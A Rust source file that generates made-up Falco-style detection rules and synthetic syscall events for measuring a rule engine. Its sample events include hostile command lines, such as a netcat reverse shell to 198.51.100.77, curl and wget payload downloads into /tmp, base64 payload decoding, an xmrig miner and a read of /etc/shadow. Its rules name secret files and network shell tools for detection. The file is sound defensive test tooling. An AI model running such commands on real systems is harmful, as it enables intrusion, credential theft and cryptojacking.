//! Rules and events in the style of real ones: lists of programs and paths, macros upon macros, exceptions, and the
//! day of a cluster with a few dozen workloads. Deterministic: the same numbers give the same text.

use std::fmt::Write;

/// Xorshift: the same numbers on every machine.
struct Random(u64);

impl Random {
    fn next(&mut self) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 11) as usize
    }

    fn below(&mut self, end: usize) -> usize {
        self.next() % end
    }

    fn one_in(&mut self, n: usize) -> bool {
        self.below(n) == 0
    }

    fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        &from[self.below(from.len())]
    }

    /// `count` different ones, in the order of the table.
    fn some<'a>(&mut self, from: &[&'a str], count: usize) -> Vec<&'a str> {
        let mut left: Vec<&str> = from.to_vec();
        while left.len() > count {
            let at = self.below(left.len());
            left.remove(at);
        }
        left
    }
}

const LISTS: &[(&str, &str)] = &[
    ("shells", "ash, bash, csh, dash, fish, ksh, sh, tcsh, zsh"),
    ("editors", "vi, vim, nano, emacs, ed, sed"),
    ("packagers", "apk, apt, apt-get, dnf, dpkg, pip, pip3, rpm, yum, npm, gem"),
    ("servers", "nginx, httpd, apache2, lighttpd, php-fpm, node, gunicorn, java"),
    ("databases", "mysqld, postgres, mongod, redis-server, memcached"),
    ("net_tools", "nc, ncat, nmap, socat, tcpdump, telnet, curl, wget, dig"),
    ("copiers", "scp, rsync, sftp, rclone, cp"),
    ("runtimes", "runc, containerd-shim, dockerd, crio, conmon, 'runc:[1:CHILD]'"),
    ("schedulers", "cron, crond, anacron, atd, systemd"),
    ("agents", "node-exporter, fluent-bit, datadog-agent, falco, osqueryd, disk-agent"),
    ("user_tools", "useradd, usermod, userdel, passwd, chpasswd, groupadd, vipw"),
    ("privilege_tools", "sudo, su, doas, pkexec, runuser"),
    ("secret_files", "/etc/shadow, /etc/sudoers, /etc/pam.conf, /etc/security/pwquality.conf, /etc/gshadow"),
    ("secret_dirs", "/root/.ssh, /etc/kubernetes/pki, /var/run/secrets, /root/.aws, /home/deploy/.ssh"),
    ("binary_dirs", "/bin, /sbin, /usr/bin, /usr/sbin, /usr/local/bin"),
    ("monitored_dirs", "/boot, /lib, /lib64, /usr/lib, /usr/local/lib, /etc/cron.d"),
    ("log_files", "/var/log/auth.log, /var/log/syslog, /var/log/wtmp, /var/log/lastlog"),
    (
        "trusted_images",
        "registry.example.com/ci/runner, registry.example.com/monitoring/agent, docker.io/library/postgres",
    ),
    (
        "privileged_images",
        "registry.example.com/net/cni, registry.example.com/storage/csi, registry.k8s.io/kube-proxy",
    ),
    ("system_namespaces", "kube-system, monitoring, ingress, storage"),
    ("production_namespaces", "shop, payments, accounts"),
    ("private_networks", "10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16"),
    ("odd_ports", "4444, 1337, 3333, 5555, 9001"),
    ("web_ports", "80, 443, 8080, 8443"),
    ("known_servers", "10.42.3.9, 10.42.3.10, 10.43.0.1, 10.43.0.10"),
    ("admins", "root, ubuntu, ops, deploy"),
    ("services", "www-data, nginx, postgres, redis, app, nobody"),
];

const MACROS: &[(&str, &str)] = &[
    ("spawned", "(evt.type in (execve, execveat))"),
    ("in_container", "(container.id != host)"),
    (
        "opened_read",
        "(evt.type in (open, openat, openat2) and evt.is_open_read = true and fd.typechar = 'f' and fd.num >= 0)",
    ),
    (
        "opened_write",
        "(evt.type in (open, openat, openat2) and evt.is_open_write = true and fd.typechar = 'f' and fd.num >= 0)",
    ),
    ("renamed", "(evt.type in (rename, renameat, renameat2))"),
    ("removed", "(evt.type in (unlink, unlinkat, rmdir))"),
    ("changed", "(renamed or removed)"),
    ("mode_changed", "(evt.type in (chmod, fchmod, fchmodat))"),
    (
        "connected",
        "(evt.type = connect and fd.typechar in (4, 6) and fd.l4proto = tcp and (evt.rawres >= 0 or evt.res = EINPROGRESS))",
    ),
    ("accepted", "(evt.type in (accept, accept4) and fd.typechar in (4, 6) and evt.rawres >= 0)"),
    (
        "leaves_network",
        "(connected and fd.ip != 0.0.0.0 and fd.net != 127.0.0.0/8 and not fd.snet in (private_networks))",
    ),
    ("by_shell", "(proc.name in (shells))"),
    ("from_shell", "(proc.pname in (shells) or proc.aname[2] in (shells))"),
    (
        "by_packager",
        "(proc.name in (packagers) or proc.pname in (packagers) or proc.aname[2] in (packagers) or proc.aname[3] in (packagers))",
    ),
    ("by_runtime", "(proc.name in (runtimes) or proc.pname in (runtimes))"),
    ("by_agent", "(proc.name in (agents) or proc.pname in (agents))"),
    ("by_scheduler", "(proc.pname in (schedulers) or proc.aname[2] in (schedulers))"),
    ("by_server", "(proc.pname in (servers) or proc.aname[2] in (servers))"),
    ("by_database", "(proc.pname in (databases) or proc.name in (databases))"),
    ("by_user_tool", "(proc.name in (user_tools) or proc.pname in (user_tools))"),
    ("with_terminal", "(proc.tty != 0 and proc.tty exists)"),
    (
        "trusted_image",
        "(in_container and (container.image.repository in (trusted_images) or container.image.repository endswith /falco))",
    ),
    (
        "privileged_image",
        "(in_container and (container.image.repository in (privileged_images) or container.image.repository startswith registry.k8s.io/))",
    ),
    ("system_namespace", "(k8s.ns.name in (system_namespaces))"),
    ("in_production", "(k8s.ns.name in (production_namespaces) or k8s.pod.label[tier] = production)"),
    (
        "secret_file",
        "(fd.name in (secret_files) or fd.directory in (secret_dirs) or fd.name startswith /etc/sudoers.d/ or fd.name pmatch (secret_dirs))",
    ),
    ("binary_dir", "(fd.directory in (binary_dirs))"),
    ("monitored_dir", "(fd.directory in (monitored_dirs) or fd.directory startswith /usr/lib/systemd)"),
    ("log_file", "(fd.name in (log_files) or (fd.name startswith /var/log/ and not fd.name contains .gz))"),
    (
        "temporary",
        "(fd.name startswith /tmp/ or fd.name startswith /var/tmp/ or fd.name startswith /dev/shm/)",
    ),
    (
        "run_from_temporary",
        "(proc.exepath startswith /tmp/ or proc.exepath startswith /dev/shm/ or proc.exepath contains /.)",
    ),
    ("backup_job", "(proc.name in (pg_dump, tar, gzip, restic) and by_scheduler)"),
    (
        "health_check",
        "(proc.cmdline startswith \"sh -c test -f\" or proc.cmdline endswith /healthz or proc.pcmdline contains probe)",
    ),
    (
        "by_config_tool",
        "(proc.pname in (ansible, chef-client, puppet, salt-minion) or proc.aname[3] in (ansible, puppet) or proc.pcmdline contains ansible)",
    ),
    ("root_or_service", "(user.uid = 0 or user.name in (services))"),
    ("known_noise", "(by_agent or by_runtime or (trusted_image and system_namespace))"),
];

/// What starts a rule's condition, and what can be said about such events.
const KINDS: &[(&str, &[&str], &[&str])] = &[
    (
        "spawned",
        &[
            "by_shell and in_container",
            "run_from_temporary",
            "proc.name in (net_tools) and (proc.args contains \"-e \" or proc.args contains -l)",
            "proc.name in (privilege_tools) and not user.name in (admins)",
            "by_user_tool and not proc.pname in (editors)",
            "by_shell and by_server",
            "proc.name in (packagers) and in_container",
            "proc.name = curl and (proc.cmdline contains \"http://\" or proc.cmdline icontains \".onion\")",
            "proc.cmdline contains base64 and (proc.cmdline contains -d or proc.cmdline contains --decode)",
            "(proc.exe endswith /xmrig or proc.cmdline icontains stratum or proc.name in (minerd, xmrig))",
        ],
        &[
            "fd.typechar exists",
            "proc.pname exists",
            "user.name != nobody",
            "in_production",
            "with_terminal or from_shell",
        ],
    ),
    (
        "opened_read",
        &[
            "secret_file",
            "log_file and not proc.name in (tail, less, logrotate)",
            "fd.name glob /home/*/.ssh/id_*",
            "fd.name startswith /proc/ and fd.name endswith /environ",
            "fd.name in (/etc/passwd, /etc/group) and from_shell",
            "fd.filename in (id_rsa, id_ed25519, credentials, .netrc)",
        ],
        &["proc.name exists", "user.loginuid = -1 or user.uid != 0", "in_container", "in_production"],
    ),
    (
        "opened_write",
        &[
            "binary_dir",
            "monitored_dir",
            "fd.name startswith /etc/ and not fd.name startswith /etc/mtab",
            "temporary and fd.name endswith .sh",
            "log_file and evt.arg.flags contains O_TRUNC",
            "fd.directory = /etc/cron.d or fd.name startswith /var/spool/cron",
            "fd.filename in (authorized_keys, .bashrc, .profile)",
        ],
        &["proc.name exists", "user.uid = 0", "in_container", "not by_user_tool"],
    ),
    (
        "leaves_network",
        &[
            "by_shell",
            "fd.sport in (odd_ports)",
            "proc.name in (net_tools) and in_container",
            "by_database and not fd.sport in (web_ports)",
            "run_from_temporary",
        ],
        &["fd.sip != 203.0.113.10", "in_production", "root_or_service"],
    ),
    (
        "accepted",
        &["fd.sport in (odd_ports)", "by_shell", "proc.name in (nc, ncat, socat)"],
        &["in_container", "not fd.cip in (known_servers)"],
    ),
    (
        "changed",
        &[
            "log_file",
            "fs.path.name startswith /usr/bin or fs.path.source startswith /usr/bin",
            "evt.arg.path endswith history",
        ],
        &["in_container", "proc.name exists"],
    ),
    (
        "mode_changed",
        &["evt.arg.mode contains S_ISUID or evt.arg.mode contains S_ISGID", "fs.path.name startswith /tmp"],
        &["user.uid = 0", "in_container"],
    ),
];

/// What is left out.
const EXCLUDED: &[&str] = &[
    "known_noise",
    "by_packager",
    "by_scheduler",
    "by_config_tool",
    "privileged_image",
    "trusted_image",
    "system_namespace",
    "backup_job",
    "health_check",
    "by_agent",
    "by_runtime",
    "by_database",
    "user.name in (admins)",
    "proc.name in (copiers)",
    "(proc.pname = systemd and proc.name = systemd-udevd)",
    "(container.image.repository endswith /debug and user.name = ops)",
];

const PRIORITIES: &[&str] = &["CRITICAL", "ERROR", "WARNING", "NOTICE", "INFO"];

/// A rules file with `count` rules.
pub(crate) fn rules(count: usize) -> String {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let mut out = String::from("# A made-up rule set for measurements.\n");
    for (name, items) in LISTS {
        writeln!(out, "- list: {name}\n  items: [{items}]\n").unwrap();
    }
    for (name, condition) in MACROS {
        writeln!(out, "- macro: {name}\n  condition: >\n    {condition}\n").unwrap();
    }
    for number in 0..count {
        let (event, subjects, more) = KINDS[[0, 1, 2, 0, 1, 2, 3, 0, 2, 4, 1, 5, 0, 3, 6][number % 15]];
        let subject = subjects[number / 2 % subjects.len()];
        let extra = random.some(more, 1 + number % 2);
        let excluded = random.some(EXCLUDED, 4 + number % 3);
        let priority = random.pick(PRIORITIES);
        write!(out, "- rule: Rule {number:03} {event}\n  desc: Made for measurements.\n  condition: >\n")
            .unwrap();
        writeln!(out, "    {event} and ({subject})").unwrap();
        for part in extra {
            writeln!(out, "    and ({part})").unwrap();
        }
        for part in excluded {
            writeln!(out, "    and not {part}").unwrap();
        }
        writeln!(
            out,
            "  output: Rule {number} (user=%user.name command=%proc.cmdline file=%fd.name parent=%proc.pname \
             pod=%k8s.pod.name ns=%k8s.ns.name image=%container.image.repository)\n  priority: {priority}\n  \
             tags: [made_up, group_{}]",
            number % 7
        )
        .unwrap();
        if number % 3 == 0 {
            exceptions(&mut out, &mut random);
        }
        out.push('\n');
    }
    out
}

fn exceptions(out: &mut String, random: &mut Random) {
    out.push_str("  exceptions:\n    - name: known_programs\n      fields: [proc.name, proc.pname]\n      comps: [=, in]\n      values:\n");
    for _ in 0..2 + random.below(3) {
        let program = random.pick(PROGRAMS);
        writeln!(out, "        - [{}, [{}, {}]]", program.name, program.parents[0], program.parents[1])
            .unwrap();
    }
    out.push_str("    - name: known_images\n      fields: [container.image.repository, k8s.ns.name]\n      comps: [endswith, =]\n      values:\n");
    for _ in 0..=random.below(3) {
        let workload = random.pick(WORKLOADS);
        writeln!(out, "        - [/{}, {}]", workload.1, workload.0).unwrap();
    }
}

struct Program {
    name: &'static str,
    dir: &'static str,
    args: &'static [&'static str],
    parents: [&'static str; 3],
    user: &'static str,
}

macro_rules! programs {
    ($($name:literal $dir:literal $user:literal [$($parent:literal)*] $args:expr;)*) => {
        const PROGRAMS: &[Program] =
            &[$(Program { name: $name, dir: $dir, args: $args, parents: [$($parent),*], user: $user }),*];
    };
}

programs! {
    "bash" "/usr/bin" "root" ["sshd" "sshd" "systemd"] &["-l", "-i", "", "/opt/run-#.sh"];
    "sh" "/bin" "www-data" ["php-fpm" "containerd-shim" "systemd"] &["-c id; uname -a", "-c test -f /tmp/ready", "-c df -h /host", "/opt/start.sh --workers 4"];
    "sh" "/bin" "root" ["crond" "crond" "systemd"] &["-c pg_dump shop | gzip > /backup/#.gz", "-c /usr/lib/sa/sa1 1 1"];
    "python3" "/usr/local/bin" "app" ["gunicorn" "containerd-shim" "systemd"] &["/app/worker.py --queue mail", "/app/worker.py --queue #", "-m http.server"];
    "node" "/usr/local/bin" "app" ["containerd-shim" "systemd" "systemd"] &["server.js", "/srv/app/index.js --port 8080"];
    "java" "/opt/jdk/bin" "app" ["containerd-shim" "systemd" "systemd"] &["-jar /srv/shop.jar", "-Xmx2g -jar /srv/pay-#.jar"];
    "nginx" "/usr/sbin" "www-data" ["nginx" "containerd-shim" "systemd"] &["-g daemon off;"];
    "postgres" "/usr/lib/postgresql/bin" "postgres" ["postgres" "containerd-shim" "systemd"] &["-D /var/lib/postgresql/data"];
    "redis-server" "/usr/local/bin" "redis" ["containerd-shim" "systemd" "systemd"] &["*:6379"];
    "curl" "/usr/bin" "root" ["bash" "sshd" "sshd"] &["-s https://updates.example.net/#", "http://198.51.100.77/x.sh", "-fsS http://127.0.0.1:8080/healthz"];
    "wget" "/usr/bin" "www-data" ["sh" "php-fpm" "containerd-shim"] &["-q http://198.51.100.77/m -O /tmp/m#"];
    "nc" "/usr/bin" "root" ["bash" "runc" "containerd-shim"] &["-e /bin/sh 198.51.100.77 4444", "-l 9001"];
    "cat" "/usr/bin" "root" ["bash" "sshd" "sshd"] &["/etc/shadow", "/etc/hostname", "/var/log/app-#.log"];
    "tar" "/usr/bin" "root" ["crond" "crond" "systemd"] &["czf /backup/home-#.tgz /home"];
    "apt-get" "/usr/bin" "root" ["bash" "sshd" "sshd"] &["update", "install -y strace"];
    "dpkg" "/usr/bin" "root" ["apt-get" "bash" "sshd"] &["--configure -a"];
    "runc" "/usr/bin" "root" ["containerd-shim" "systemd" "systemd"] &["--root /run/containerd init #"];
    "systemd-udevd" "/usr/lib/systemd" "root" ["systemd" "systemd" "systemd"] &[""];
    "sshd" "/usr/sbin" "root" ["sshd" "systemd" "systemd"] &["-D", "-D -R #"];
    "sudo" "/usr/bin" "ubuntu" ["bash" "sshd" "sshd"] &["-i", "systemctl restart app"];
    "useradd" "/usr/sbin" "root" ["bash" "sudo" "bash"] &["-m user#"];
    "fluent-bit" "/fluent-bit/bin" "root" ["containerd-shim" "systemd" "systemd"] &["-c /fluent-bit/etc/fluent-bit.conf"];
    "disk-agent" "/usr/local/bin" "nobody" ["containerd-shim" "systemd" "systemd"] &["--interval 60"];
    "git" "/usr/bin" "deploy" ["bash" "gitlab-runner" "systemd"] &["fetch origin --depth #", "checkout -f #"];
    "xmrig" "/tmp/.x" "www-data" ["sh" "php-fpm" "containerd-shim"] &["-o stratum+tcp://pool.example.org:3333"];
    "base64" "/usr/bin" "www-data" ["sh" "php-fpm" "containerd-shim"] &["-d /tmp/p#"];
    "logrotate" "/usr/sbin" "root" ["crond" "crond" "systemd"] &["/etc/logrotate.conf"];
    "vim" "/usr/bin" "ubuntu" ["bash" "sshd" "sshd"] &["/etc/nginx/nginx.conf", "notes-#.txt"];
    "rsync" "/usr/bin" "deploy" ["bash" "sshd" "sshd"] &["-a /srv/ backup:/srv/#"];
    "ls" "/usr/bin" "root" ["bash" "runc" "containerd-shim"] &["-la /tmp", "/proc/#/fd"];
}

/// Namespace, image, pod.
const WORKLOADS: &[(&str, &str, &str)] = &[
    ("shop", "shop/web", "web-6d9f7c5b8"),
    ("shop", "shop/worker", "worker-84d6c7b9f"),
    ("shop", "library/redis", "cache"),
    ("payments", "payments/payment-api", "payment-api-7c4d5f9b66"),
    ("payments", "library/postgres", "payments-db"),
    ("accounts", "accounts/login", "login-58c7f9d6b4"),
    ("ci", "ci/runner", "runner-project"),
    ("monitoring", "monitoring/agent", "agent"),
    ("monitoring", "monitoring/disk-agent", "disk-agent"),
    ("kube-system", "kube-proxy", "kube-proxy"),
    ("ingress", "edge/ingress", "ingress-5b8c9d7f4"),
    ("storage", "storage/csi", "csi-node"),
    ("shop-staging", "shop/web", "web-5f4b8d96c"),
    ("tools", "tools/debug", "debug"),
];

const FILES: &[&str] = &[
    "/etc/shadow",
    "/etc/passwd",
    "/etc/hosts",
    "/etc/nginx/nginx.conf",
    "/etc/ld.so.cache",
    "/etc/resolv.conf",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/var/log/app-#.log",
    "/var/log/auth.log",
    "/tmp/session-#",
    "/tmp/build-#/main.o",
    "/srv/app/index.js",
    "/srv/data/part-#.bin",
    "/proc/#/stat",
    "/proc/self/status",
    "/proc/#/environ",
    "/home/deploy/.ssh/id_ed25519",
    "/root/.ssh/authorized_keys",
    "/usr/bin/env",
    "/var/lib/postgresql/data/base/16384/#",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/dev/null",
    "/etc/cron.d/job-#",
    "/usr/local/bin/tool-#",
    "/var/cache/apt/pkgcache.bin",
];

/// Event types, as often as they come.
const TYPES: &[(&str, usize)] = &[
    ("openat", 42),
    ("execve", 18),
    ("connect", 9),
    ("close", 5),
    ("clone", 5),
    ("unlinkat", 4),
    ("sendto", 4),
    ("accept4", 3),
    ("renameat2", 2),
    ("fchmodat", 2),
    ("mkdirat", 1),
    ("setuid", 1),
    ("chdir", 1),
    ("symlinkat", 1),
    ("uname", 1),
    ("getdents64", 1),
];

/// An events file of JSON lines with `count` events.
pub(crate) fn events(count: usize) -> String {
    let mut random = Random(0x2545_f491_4f6c_dd1d);
    let total: usize = TYPES.iter().map(|(_, weight)| weight).sum();
    let mut out = String::with_capacity(count * 900);
    let mut nanoseconds = 1_776_124_800_000_000_000_u64;
    for number in 0..count {
        let mut at = random.below(total);
        let kind = TYPES.iter().find(|(_, weight)| at.checked_sub(*weight).map(|left| at = left).is_none());
        nanoseconds += random.below(4_000_000) as u64;
        event(&mut out, &mut random, number, kind.map_or("openat", |(name, _)| name), nanoseconds);
    }
    out
}

fn event(out: &mut String, random: &mut Random, number: usize, kind: &str, nanoseconds: u64) {
    let program = random.pick(PROGRAMS);
    let numbered = |random: &mut Random, text: &str| text.replace('#', &random.below(400).to_string());
    let args = *random.pick(program.args);
    let args = numbered(random, args);
    let space = if args.is_empty() { "" } else { " " };
    let (name, dir, [parent, second, third]) = (program.name, program.dir, program.parents);
    let uid = match program.user {
        "root" => 0,
        "www-data" => 33,
        _ => 1000,
    };
    let pid = 1000 + random.below(30_000);
    write!(
        out,
        r#"{{"evt.num":{},"evt.rawtime":{nanoseconds},"evt.type":"{kind}","proc.name":"{name}","proc.exepath":"{dir}/{name}","proc.exe":"{name}","proc.cmdline":"{name}{space}{args}","proc.args":"{args}","proc.pname":"{parent}","proc.pcmdline":"{parent}","proc.aname[2]":"{second}","proc.aname[3]":"{third}","proc.pid":{pid},"proc.tty":{},"user.name":"{}","user.uid":{uid},"user.loginuid":{}"#,
        number + 1,
        if random.one_in(6) { 34816 } else { 0 },
        program.user,
        if random.one_in(3) { 1000 } else { -1 },
    )
    .unwrap();
    match kind {
        "openat" => {
            let file = *random.pick(FILES);
            let file = numbered(random, file);
            let flags = *random.pick(&[
                "O_RDONLY|O_CLOEXEC",
                "O_RDONLY",
                "O_RDWR|O_CREAT",
                "O_WRONLY|O_CREAT|O_TRUNC",
            ]);
            let fd = 3 + random.below(20);
            write!(out, r#","fd.name":"{file}","fd.num":{fd},"evt.rawres":{fd},"evt.arg.flags":"{flags}""#)
                .unwrap();
        }
        "connect" | "accept4" | "sendto" => {
            let (a, b, p) = (random.below(8), random.below(250), 30_000 + random.below(30_000));
            let server = *random.pick(&[
                "10.42.3.9",
                "10.43.0.10",
                "198.51.100.77",
                "203.0.113.10",
                "127.0.0.1",
                "192.0.2.53",
            ]);
            let port = *random.pick(&[443, 80, 5432, 53, 6379, 4444, 9001, 8080]);
            write!(out, r#","fd.name":"10.42.{a}.{b}:{p}->{server}:{port}","fd.l4proto":"tcp","fd.num":9,"evt.rawres":0"#).unwrap();
        }
        "unlinkat" | "fchmodat" | "mkdirat" => {
            let file = *random.pick(FILES);
            let file = numbered(random, file);
            let arg = match kind {
                "unlinkat" => "name",
                "mkdirat" => "path",
                _ => "filename",
            };
            write!(out, r#","evt.arg.{arg}":"{file}","evt.arg.mode":"S_IRUSR|S_IWUSR","evt.rawres":0"#)
                .unwrap();
        }
        "renameat2" => {
            let file = *random.pick(FILES);
            let file = numbered(random, file);
            write!(out, r#","evt.arg.oldpath":"{file}","evt.arg.newpath":"{file}.1","evt.rawres":0"#)
                .unwrap();
        }
        _ => write!(out, r#","evt.rawres":0"#).unwrap(),
    }
    if random.below(10) < 7 {
        let (namespace, image, pod) = random.pick(WORKLOADS);
        let replica = random.below(5);
        let tier = if random.one_in(2) { "production" } else { "test" };
        write!(
            out,
            r#","container.id":"{:012x}","container.name":"{pod}","container.image.repository":"registry.example.com/{image}","container.image.tag":"1.{replica}","k8s.ns.name":"{namespace}","k8s.pod.name":"{pod}-{replica}","k8s.pod.label[tier]":"{tier}""#,
            (pod.len() * 7919 + replica) * 104_729,
        )
        .unwrap();
    } else {
        out.push_str(r#","container.id":"host","container.name":"host""#);
    }
    out.push_str("}\n");
}
